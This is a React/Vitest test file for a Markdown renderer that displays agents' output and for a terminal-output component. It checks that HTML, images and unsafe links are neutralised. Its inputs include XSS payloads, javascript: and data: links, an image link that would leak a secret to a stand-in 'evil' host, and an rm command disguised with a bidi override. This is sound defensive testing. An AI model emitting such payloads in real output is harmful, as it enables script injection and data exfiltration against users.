import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { plain } from '~/ui/format'
import Markdown from '~/ui/Markdown'
import { Terminal } from '~/ui/Terminal'

afterEach(cleanup)

const shown = (words: string) => render(<Markdown>{words}</Markdown>).container

describe('Markdown of agents', () => {
  it('shows HTML as text', () => {
    const page = shown('before <script>alert(1)</script>\n\n<img src="http://evil/x.png" onerror="alert(2)">')
    expect(page.querySelector('script, img')).toBeNull()
    expect(page.textContent).toContain('<script>alert(1)</script>')
  })

  it('loads no image', () => {
    const page = shown('![secret](http://evil/?q=secret)')
    expect(page.querySelector('img')).toBeNull()
    expect(page.textContent).toContain('http://evil/?q=secret')
  })

  it('links only to web addresses', () => {
    const page = shown('[a](https://example.org) [b](javascript:alert(1)) [c](data:text/html,x) [d](/console)')
    const links = [...page.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.org'])
    expect(links[0]?.rel).toBe('noopener noreferrer')
  })

  it('shows lists, code and tables', () => {
    const page = shown('1. one\n2. `two`\n\n```sh\nls <x>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(page.querySelectorAll('ol > li')).toHaveLength(2)
    expect(page.querySelector('pre')?.textContent).toBe('ls <x>')
    expect(page.querySelectorAll('td')).toHaveLength(2)
  })
})

describe('program output', () => {
  it('is coloured by classes, without inline styles', () => {
    const { container } = render(<Terminal>{'\u001b[31mbad\u001b[0m fine'}</Terminal>)
    expect(container.textContent).toBe('bad fine')
    expect(container.querySelector('[style]')).toBeNull()
  })

  it('shows the last text of an overwritten line', () => {
    const { container } = render(<Terminal>{'10 %\r50 %\r100 %\r\ndone\n'}</Terminal>)
    expect(container.textContent).toBe('100 %\ndone\n')
  })

  it('shows control characters as escapes', () => {
    expect(plain('rm \u202e/ safe\u0007')).toBe('rm \\u202e/ safe\\u0007')
    expect(plain('two\n\tlines, ümlaut 🌱')).toBe('two\n\tlines, ümlaut 🌱')
  })
})
